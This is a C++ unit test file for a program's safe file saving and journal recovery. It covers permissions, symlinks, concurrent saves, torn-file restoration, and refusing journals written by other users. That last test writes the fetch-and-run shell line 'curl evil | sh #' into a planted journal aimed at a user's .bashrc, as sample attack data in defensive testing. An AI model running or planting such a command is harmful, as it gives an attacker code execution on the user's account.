// Reading and saving files safely: only regular files open, ANSI paths name the host's UTF-8
// files, a save keeps what the user's file is and writes only where the user may, two programs
// saving one file, in-place saves that fail or are killed, and the journal that restores a torn
// file and is never taken up from another user.
#include "framework/Files.h"
#include "framework/RollbackJournal.h"
#include "framework/WinTypes.h"
#include "io/FileReplacement.h"
#include "tests/TestFolder.h"
#include "tests/TornSave.h"
#include "tests/WholeFiles.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <chrono>
#include <csignal>
#include <filesystem>
#include <functional>
#include <grp.h>
#include <optional>
#include <set>
#include <string>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <thread>
#include <unistd.h>

namespace fs = std::filesystem;

namespace {

constexpr uid_t kNobody = 65534;

// Runs `work` in a child process, which exits with its result.
pid_t StartChildProcess(const std::function<int()>& work) {
    const pid_t child = ::fork();
    if (child == 0) {
        ::_exit(work());
    }
    return child;
}

int ExitStatus(int status) {
    return WIFEXITED(status) ? WEXITSTATUS(status) : -1;
}

// The child's saves take a fraction of a second: one that has not ended after this hangs.
constexpr auto kChildPatience = std::chrono::minutes(1);

// Waits for a child started by StartChildProcess and answers its wait status; nothing, and a
// failure of the test that says why, when it could not start or did not end in time (it is
// then ended).
std::optional<int> WaitForChildProcess(pid_t child) {
    if (child < 0) {
        ADD_FAILURE() << "the child process could not start";
        return std::nullopt;
    }
    const auto deadline = std::chrono::steady_clock::now() + kChildPatience;
    int status = 0;
    while (::waitpid(child, &status, WNOHANG) == 0) {
        if (std::chrono::steady_clock::now() > deadline) {
            ::kill(child, SIGKILL);
            ::waitpid(child, nullptr, 0);
            ADD_FAILURE() << "the child process did not end within a minute";
            return std::nullopt;
        }
        std::this_thread::sleep_for(std::chrono::milliseconds(10));
    }
    return status;
}

// Runs `work` as the user `user`, whose runtime folder is `runtime`, as a program started for
// him runs; -1 when the process failed.
int RunAsUser(uid_t user, const fs::path& runtime, const std::function<int()>& work) {
    fs::create_directories(runtime);
    if (::chown(runtime.c_str(), user, user) != 0) {
        return -1;
    }
    const std::optional<int> status = WaitForChildProcess(StartChildProcess([&] {
        if (::setgroups(0, nullptr) != 0 || ::setgid(user) != 0 || ::setuid(user) != 0) {
            return 2;
        }
        ::setenv("XDG_RUNTIME_DIR", runtime.c_str(), 1);
        return work();
    }));
    return status ? ExitStatus(*status) : -1;
}

// Saves as an unprivileged user, as the program runs for one; 1 when the save failed, -1 when
// the saving process failed.
int SaveAsNobody(const fs::path& path, const std::string& content) {
    return RunAsUser(kNobody, path.parent_path().parent_path() / "nobody-runtime",
                     [&] { return ReplaceFileContent(path.string(), content) ? 0 : 1; });
}

// A fresh folder of the test's own.
class FilesTest : public ::testing::Test {
protected:
    FilesTest() : folder(FreshTestFolder("lumetrix-files-")) {}
    ~FilesTest() override { fs::remove_all(folder); }

    std::vector<std::string> FileNames() const {
        std::vector<std::string> names;
        for (const fs::directory_entry& entry : fs::directory_iterator(folder)) {
            names.push_back(entry.path().filename().string());
        }
        std::sort(names.begin(), names.end());
        return names;
    }

    fs::path folder;
};

TEST_F(FilesTest, OnlyRegularFilesOpenForReadingAndNothingWaits) {
    const fs::path pipe = folder / "pipe";
#ifndef __EMSCRIPTEN__ // the browser's files have no named pipes: there it stays missing
    ASSERT_EQ(::mkfifo(pipe.c_str(), 0600), 0);
#endif
    WriteWholeFile(folder / "empty", "");
    const struct {
        fs::path path;
        bool opens;
    } cases[] = {
        {folder, false},      {folder / "missing", false}, {pipe, false},
        {"/dev/zero", false}, {"/dev/urandom", false},     {folder / "empty", true},
    };
    for (const auto& c : cases) {
        std::FILE* file = OpenRegularFileForReading(c.path.c_str());
        EXPECT_EQ(file != nullptr, c.opens) << c.path;
        if (file != nullptr) {
            EXPECT_EQ(std::fgetc(file), EOF);
            std::fclose(file);
        }
    }
}

TEST_F(FilesTest, AnsiPathsNameTheHostsUtf8Files) {
    const std::string ansiFolder = folder.string() + "/Gr\xF6\xDF"
                                                     "e \x80";
    fs::create_directory(folder / "Größe €");
    WriteWholeFile(folder / "Größe €" / "Däten.lumx", "old");
    const std::string ansiFile = ansiFolder + "/D\xE4ten.lumx";
    EXPECT_EQ(GetFileAttributesA(ansiFolder.c_str()), static_cast<DWORD>(FILE_ATTRIBUTE_DIRECTORY));
    EXPECT_EQ(GetFileAttributesA(ansiFile.c_str()), static_cast<DWORD>(FILE_ATTRIBUTE_NORMAL));
    EXPECT_TRUE(ReplaceFileContent(ansiFile, "new"));
    std::FILE* file = OpenRegularFileForReading(ansiFile.c_str());
    ASSERT_NE(file, nullptr);
    EXPECT_EQ(std::fgetc(file), 'n');
    std::fclose(file);
    EXPECT_EQ(ReadWholeFile(folder / "Größe €" / "Däten.lumx"), "new");
}

TEST_F(FilesTest, ASaveKeepsWhatTheUsersFileIs) {
    const fs::path real = folder / "real.lumx";
    const fs::path link = folder / "link.lumx";
    WriteWholeFile(real, "old");
    fs::create_symlink("real.lumx", link);
    fs::permissions(real, fs::perms::owner_read | fs::perms::owner_write | fs::perms::group_read);
    const bool privileged = ::geteuid() == 0;
    if (privileged) {
        ASSERT_EQ(::chown(real.c_str(), kNobody, kNobody), 0);
    }

    EXPECT_TRUE(ReplaceFileContent(link.string(), "new"));
    EXPECT_TRUE(fs::is_symlink(link));
    EXPECT_EQ(ReadWholeFile(real), "new");
    EXPECT_EQ(fs::status(real).permissions(),
              fs::perms::owner_read | fs::perms::owner_write | fs::perms::group_read);
    struct stat status;
    ASSERT_EQ(::stat(real.c_str(), &status), 0);
    EXPECT_EQ(status.st_uid, privileged ? kNobody : ::geteuid());
    EXPECT_EQ(FileNames(), (std::vector<std::string>{"link.lumx", "real.lumx"}));
}

TEST_F(FilesTest, SavesWhereTheUserMayWriteAndNowhereElse) {
    if (::geteuid() != 0) {
        GTEST_SKIP() << "needs root to set up files of another user";
    }
    const fs::path open = folder / "open";     // every user may create files here
    const fs::path closed = folder / "closed"; // nobody but root may create files here
    fs::create_directories(open);
    fs::create_directories(closed);
    fs::permissions(open, fs::perms::all);
    fs::permissions(folder, fs::perms::all);
    fs::permissions(closed, fs::perms::owner_all | fs::perms::others_read | fs::perms::others_exec);
    const struct {
        const char* what;
        fs::path path;
        uid_t owner;
        fs::perms permissions; // none: no such file
        std::string left;      // "new" where the save succeeds
    } cases[] = {
        {"another user's file in a shared folder", open / "others.lumx", 0,
         fs::perms::owner_read | fs::perms::owner_write | fs::perms::others_read, "old"},
        {"the user's own file", open / "own.lumx", kNobody,
         fs::perms::owner_read | fs::perms::owner_write, "new"},
        {"a file everyone may write, in a closed folder", closed / "shared.lumx", 0, fs::perms::all,
         "new"},
        {"a new file in a closed folder", closed / "new.lumx", 0, fs::perms::none, ""},
    };
    for (const auto& c : cases) {
        if (c.permissions != fs::perms::none) {
            WriteWholeFile(c.path, "old");
            fs::permissions(c.path, c.permissions);
            ASSERT_EQ(::chown(c.path.c_str(), c.owner, c.owner), 0);
        }
        EXPECT_EQ(SaveAsNobody(c.path, "new"), c.left == "new" ? 0 : 1) << c.what;
        EXPECT_EQ(ReadWholeFile(c.path), c.left) << c.what;
    }
    EXPECT_EQ(std::distance(fs::directory_iterator(open), fs::directory_iterator()), 2);
    EXPECT_EQ(std::distance(fs::directory_iterator(closed), fs::directory_iterator()), 1);
}

// Two programs save the same file over and over while a third reads it: every read finds one
// whole content, every save succeeds, and no temporary file is left.
TEST_F(FilesTest, TwoProgramsSavingOneFileLeaveAWholeFile) {
    constexpr int kSaves = 300;
    const fs::path file = folder / "shared.lumx";
    const std::string contents[2] = {std::string(1073, 'a'), std::string(1100, 'b')};
    std::set<pid_t> running;
    const auto endAll = [&running] {
        for (const pid_t child : running) {
            ::kill(child, SIGKILL);
            ::waitpid(child, nullptr, 0);
        }
    };
    for (const std::string& content : contents) {
        const pid_t child = StartChildProcess([&] {
            int failed = 0;
            for (int n = 0; n < kSaves; ++n) {
                failed += ReplaceFileContent(file.string(), content) ? 0 : 1;
            }
            return failed == 0 ? 0 : 1;
        });
        if (child < 0) {
            endAll();
            FAIL() << "a saving program could not start";
        }
        running.insert(child);
    }
    const auto deadline = std::chrono::steady_clock::now() + kChildPatience;
    std::set<std::string> seen;
    while (!running.empty()) {
        if (std::chrono::steady_clock::now() > deadline) {
            endAll();
            FAIL() << "the saving programs did not end within a minute";
        }
        if (fs::exists(file)) {
            seen.insert(ReadWholeFile(file));
        }
        int status = 0;
        const pid_t ended = ::waitpid(-1, &status, WNOHANG);
        if (running.erase(ended) == 1) {
            EXPECT_EQ(ExitStatus(status), 0) << "a save failed";
        }
    }
    seen.insert(ReadWholeFile(file));
    for (const std::string& content : seen) {
        EXPECT_TRUE(content == contents[0] || content == contents[1])
            << content.size() << " bytes: " << content.substr(0, 40);
    }
    EXPECT_EQ(FileNames(), std::vector<std::string>{"shared.lumx"});
}

// The save for folders where no new file can be made writes over the file itself: under a file
// size limit, as on a full disk, the file keeps its old bytes and the save reports failure.
TEST_F(FilesTest, AnInPlaceSaveThatFailsKeepsTheOldBytes) {
    const std::string old(51, 'o');
    const struct {
        rlim_t limit;
        std::string content;
        bool saved;
    } cases[] = {
        {0, std::string(1073, 'n'), false},
        {1024, std::string(1073, 'n'), false},
        {1024, "shorter", true},
        {RLIM_INFINITY, std::string(1073, 'n'), true},
    };
    const JournalFolderOfTheTest journals(folder / "run");
    std::signal(SIGXFSZ, SIG_IGN);
    rlimit original{};
    getrlimit(RLIMIT_FSIZE, &original);
    const fs::path file = folder / "in-place.lumx";
    for (const auto& c : cases) {
        WriteWholeFile(file, old);
        rlimit limited = original;
        limited.rlim_cur = c.limit;
        setrlimit(RLIMIT_FSIZE, &limited);
        const bool saved = OverwriteFile(file.string(), c.content);
        setrlimit(RLIMIT_FSIZE, &original);
        EXPECT_EQ(saved, c.saved) << c.limit << " " << c.content.size();
        EXPECT_EQ(ReadWholeFile(file), c.saved ? c.content : old) << c.limit;
    }
}

// A save in place killed by the file size limit, with the signal's default action, as a shell's
// ulimit -f does it: afterwards, once the next start has looked at the journal, the file holds
// its old or its new bytes, and no journal is left.
TEST_F(FilesTest, AnInPlaceSaveKilledByTheFileSizeLimitLeavesTheOldOrTheNewBytes) {
    const JournalFolderOfTheTest temporary(folder / "tmp");
    const fs::path file = folder / "killed.lumx";
    const struct {
        std::string old, content;
        rlim_t limit;
    } cases[] = {
        {std::string(20, 'o'), std::string(1073, 'n'), 1024},
        {std::string(51, 'o'), std::string(1073, 'n'), 1024},
        {std::string(3000, 'o'), std::string(1073, 'n'), 4096},
        {std::string(51, 'o'), "shorter", 1024},
    };
    for (const auto& c : cases) {
        WriteWholeFile(file, c.old);
        const std::optional<int> ended = WaitForChildProcess(StartChildProcess([&] {
            std::signal(SIGXFSZ, SIG_DFL);
            rlimit limited{};
            getrlimit(RLIMIT_FSIZE, &limited);
            limited.rlim_cur = c.limit;
            setrlimit(RLIMIT_FSIZE, &limited);
            return OverwriteFile(file.string(), c.content) ? 0 : 1;
        }));
        if (!ended) {
            continue;
        }
        const int status = *ended;
        const bool killed = WIFSIGNALED(status) && WTERMSIG(status) == SIGXFSZ;
        EXPECT_TRUE(killed || ExitStatus(status) == 0) << c.old.size() << " " << status;
        EXPECT_TRUE(RestoreInterruptedSaves().empty());
        const std::string left = ReadWholeFile(file);
        EXPECT_TRUE(left == c.old || left == c.content) << left.size() << " bytes";
        EXPECT_EQ(left == c.content, !killed) << c.old.size();
        EXPECT_EQ(JournalsLeft(), 0u);
    }
}

// At the next start, the journal of a save killed midway gives a torn file its old bytes back.
// A file changed by someone else since keeps its bytes; a save that is still writing keeps its
// journal.
TEST_F(FilesTest, AtTheNextStartATornFileGetsItsOldBytesBack) {
    const JournalFolderOfTheTest temporary(folder / "tmp");
    const fs::path file = folder / "torn.lumx";
    const std::string old = "the old calculation, 44 bytes of it, no more";
    const std::string content = std::string(30, 'n') + "\n";
    const struct {
        const char* what;
        std::size_t written;             // bytes of the new content over the old ones
        std::function<void()> meanwhile; // after the save was killed
        bool restored;
        std::string left;
        std::size_t journals;
    } cases[] = {
        {"the new bytes over a part of the old", 12, [] {}, true, old, 0},
        {"all the new bytes, the old length not yet set", content.size(), [] {}, true, old, 0},
        {"the save had written nothing", 0, [] {}, false, old, 0},
        {"the save was done", content.size(), [&] { fs::resize_file(file, content.size()); }, false,
         content, 0},
        {"changed by someone else since", 12, [&] { WriteWholeFile(file, "ganz anders"); }, false,
         "ganz anders", 0},
        {"the file is gone", 12, [&] { fs::remove(file); }, false, "", 0},
    };
    for (const auto& c : cases) {
        WriteWholeFile(file, old);
        LeaveTornSave(file, content, c.written);
        c.meanwhile();
        const std::vector<std::string> restored = RestoreInterruptedSaves();
        EXPECT_EQ(restored, c.restored ? std::vector<std::string>{fs::canonical(file).string()}
                                       : std::vector<std::string>{})
            << c.what;
        EXPECT_EQ(ReadWholeFile(file), c.left) << c.what;
        EXPECT_EQ(JournalsLeft(), c.journals) << c.what;
    }

    // A save takes the journal's name only once the journal is whole: one cut short is none of
    // its journals, and is left alone.
    WriteWholeFile(file, old);
    const SystemPath journal = LeaveTornSave(file, content, 12);
    fs::resize_file(journal, fs::file_size(journal) - 1);
    EXPECT_TRUE(RestoreInterruptedSaves().empty());
    EXPECT_EQ(ReadWholeFile(file), content.substr(0, 12) + old.substr(12));
    EXPECT_EQ(JournalsLeft(), 1u);
    fs::remove(journal);
    WriteWholeFile(file, old);

#ifndef __EMSCRIPTEN__ // the browser runs one program and has no locks to hold a journal
    // A save that still writes holds its journal.
    const SystemPath held = LeaveTornSave(file, content, 12);
    SystemFile holder(held, SystemFile::Access::Read);
    ASSERT_TRUE(holder.Lock(true, 0));
    EXPECT_TRUE(RestoreInterruptedSaves().empty());
    EXPECT_EQ(JournalsLeft(), 1u);
    holder.Close();
    EXPECT_EQ(RestoreInterruptedSaves().size(), 1u);
    EXPECT_EQ(ReadWholeFile(file), old);
#endif
}

// A journal that another user can have written is never taken up: not in the shared temporary
// folder where journals once lay, not in a journal folder that others may change, and not one
// that is not the user's own, private file. The file it names keeps its bytes.
TEST_F(FilesTest, AJournalThatAnotherUserCanHaveWrittenIsNeverTakenUp) {
    if (::geteuid() != 0) {
        GTEST_SKIP() << "needs root to act as two users";
    }
    constexpr uid_t kUser = kNobody;
    constexpr uid_t kOther = kNobody - 1;
    const fs::path shared = folder / "tmp"; // as /tmp: everybody may put files there
    const fs::path runtime = folder / "run";
    const fs::path journals = runtime / "lumetrix";
    const fs::path home = folder / "home";
    const fs::path file = home / ".bashrc";
    fs::create_directories(shared);
    fs::permissions(shared, fs::perms::all | fs::perms::sticky_bit);
    fs::create_directories(home);
    ASSERT_EQ(::chown(home.c_str(), kUser, kUser), 0);
    const std::string own = "# the user's own settings\n";
    WriteWholeFile(file, own);
    ASSERT_EQ(::chown(file.c_str(), kUser, kUser), 0);
    const std::string journalName = fs::path(JournalPathFor(file.string())).filename().string();
    const fs::path payload = folder / "payload";
    WriteWholeFile(payload, "curl evil | sh #\n" + std::string(own.size(), '#'));
    const struct {
        const char* what;
        fs::path journal;
        uid_t owner;
        fs::perms mode;
        std::function<void()> setUp;
    } cases[] = {
        {"in the shared folder, named after the file", shared / journalName, kOther,
         fs::perms::owner_read | fs::perms::owner_write, [] {}},
        {"in the shared folder, under any name", shared / "~lmx-0000000000000000.journal", kOther,
         fs::perms::owner_read | fs::perms::owner_write, [] {}},
        {"in a journal folder that others may write", journals / journalName, kOther,
         fs::perms::owner_read | fs::perms::owner_write,
         [&] { fs::permissions(journals, fs::perms::all); }},
        {"in a journal folder of another user", journals / journalName, kOther,
         fs::perms::owner_read | fs::perms::owner_write,
         [&] { ASSERT_EQ(::chown(journals.c_str(), kOther, kOther), 0); }},
        {"another user's file in the user's journal folder", journals / journalName, kOther,
         fs::perms::owner_read | fs::perms::owner_write, [] {}},
        {"the user's file that others may read", journals / journalName, kUser,
         fs::perms::owner_read | fs::perms::owner_write | fs::perms::others_read, [] {}},
    };
    for (const auto& c : cases) {
        fs::remove_all(runtime);
        fs::create_directories(journals);
        fs::permissions(journals, fs::perms::owner_all);
        ASSERT_EQ(::chown(journals.c_str(), kUser, kUser), 0);
        c.setUp();
        // A torn file by the journal: its old bytes would be the payload.
        {
            SystemFile old(payload.string(), SystemFile::Access::Read);
            SystemFile journal(c.journal.string(), SystemFile::Access::CreateWrite);
            ASSERT_TRUE(
                WriteJournal(journal, file.string(), old, old.Size().value_or(0), own + "x"))
                << c.what;
        }
        fs::permissions(c.journal, c.mode);
        ASSERT_EQ(::chown(c.journal.c_str(), c.owner, c.owner), 0);
        EXPECT_EQ(RunAsUser(kUser, runtime,
                            [&] {
                                ::setenv("TMPDIR", shared.c_str(), 1);
                                const bool restored = !RestoreInterruptedSaves().empty() ||
                                                      RestoreInterruptedSave(file.string());
                                return restored ? 1 : 0;
                            }),
                  0)
            << c.what;
        EXPECT_EQ(ReadWholeFile(file), own) << c.what;
        EXPECT_TRUE(fs::exists(c.journal)) << c.what << ": left alone";
        fs::remove(c.journal);
    }
}

// Whatever lies at a file's journal name, a link, a pipe, a sparse file of 2 GiB or one that
// cannot be read, is left alone at the start and before a load, without waiting or reading it
// through, and the save takes the name over.
TEST_F(FilesTest, WhatLiesAtAJournalsNameNeitherHoldsUpTheStartNorBlocksTheSave) {
    const JournalFolderOfTheTest journals(folder / "run");
    const fs::path file = folder / "plan.lumx";
    const fs::path elsewhere = folder / "elsewhere";
    const struct {
        const char* what;
        std::function<void(const fs::path&)> put;
    } cases[] = {
        {"a link", [&](const fs::path& at) { fs::create_symlink(elsewhere, at); }},
#ifndef __EMSCRIPTEN__ // the browser's files have no named pipes
        {"a pipe", [](const fs::path& at) { ASSERT_EQ(::mkfifo(at.c_str(), 0600), 0); }},
#endif
        {"a sparse file of 2 GiB",
         [](const fs::path& at) {
             WriteWholeFile(at, "");
             fs::resize_file(at, 2ull << 30);
         }},
        {"a file nobody may read",
         [](const fs::path& at) {
             WriteWholeFile(at, "LumetrixJournal1");
             fs::permissions(at, fs::perms::none);
         }},
    };
    for (const auto& c : cases) {
        WriteWholeFile(file, "old");
        WriteWholeFile(elsewhere, "elsewhere");
        const fs::path journal = JournalPathFor(FindSaveTarget(file.string()).path);
        c.put(journal);
        EXPECT_TRUE(RestoreInterruptedSaves().empty()) << c.what;
        EXPECT_FALSE(RestoreInterruptedSave(file.string())) << c.what;
        EXPECT_TRUE(OverwriteFile(file.string(), "new")) << c.what;
        EXPECT_EQ(ReadWholeFile(file), "new") << c.what;
        EXPECT_EQ(ReadWholeFile(elsewhere), "elsewhere") << c.what;
        EXPECT_FALSE(fs::exists(fs::symlink_status(journal))) << c.what;
    }
}

// The judgement of a journaled file by its bytes, fed in pieces as the files are read.
TEST(TornFileCheckTest, TellsOldNewTornAndChangedBytes) {
    const std::string old = "ooooooooo";
    const std::string neu = "nnnnnnnnnnnnnn";
    const struct {
        std::string file, old, neu;
        JournaledState state;
    } cases[] = {
        {old, old, neu, JournaledState::Old},
        {neu, old, neu, JournaledState::New},
        {"nnnoooooo", old, neu, JournaledState::Torn},
        {"nnnnnnnnnnn", old, neu, JournaledState::Torn},    // longer than the old bytes
        {"ooonnnooo", old, neu, JournaledState::Torn},      // the old bytes half put back
        {"nnnnnnooo", old, "nnnnnn", JournaledState::Torn}, // the old length not yet set
        {"nnnnxoooo", old, neu, JournaledState::ChangedSince},
        {"nnnooo", old, neu, JournaledState::ChangedSince},           // shorter than both
        {"nnnnnnnnnnnnnnnn", old, neu, JournaledState::ChangedSince}, // longer than both
        {"same", "same", "same", JournaledState::New},
        {"", "", "n", JournaledState::Old},
    };
    for (const auto& c : cases) {
        TornFileCheck check(c.old.size(), c.neu.size(), c.file.size());
        for (std::size_t at = 0; at < c.file.size(); at += 4) {
            const auto piece = [&](const std::string_view bytes) {
                return bytes.substr(std::min(at, bytes.size()), 4);
            };
            check.Compare(piece(c.file), piece(c.old), piece(c.neu));
        }
        EXPECT_EQ(check.Verdict(), c.state) << c.file << " over " << c.old << " by " << c.neu;
    }
}

// Another program of ours reads the file while a save writes over it in place: the reader waits
// for the save and reads the whole new content, never the new bytes over a part of the old.
TEST_F(FilesTest, AReaderWaitsForAnInPlaceSave) {
    const fs::path file = folder / "read-while-saved.lumx";
    const std::string old(3000, 'o');
    const std::string content(2000, 'n');
    WriteWholeFile(file, old);
    SystemFile saving(file.string(), SystemFile::Access::ReadWrite);
    ASSERT_TRUE(saving.Lock(true, 0));
    ASSERT_TRUE(saving.WriteAt(0, content.data(), 1000)); // half done
    std::string read;
    std::thread reader([&] {
        std::FILE* opened = OpenRegularFileForReading(file.c_str());
        ASSERT_NE(opened, nullptr);
        for (int c; (c = std::fgetc(opened)) != EOF;) {
            read += static_cast<char>(c);
        }
        std::fclose(opened);
    });
    std::this_thread::sleep_for(std::chrono::milliseconds(200)); // the reader is waiting by now
    ASSERT_TRUE(saving.WriteAt(0, content.data(), content.size()));
    ASSERT_TRUE(saving.SetSize(content.size()));
    saving.Close();
    reader.join();
    EXPECT_EQ(read, content);
}

} // namespace
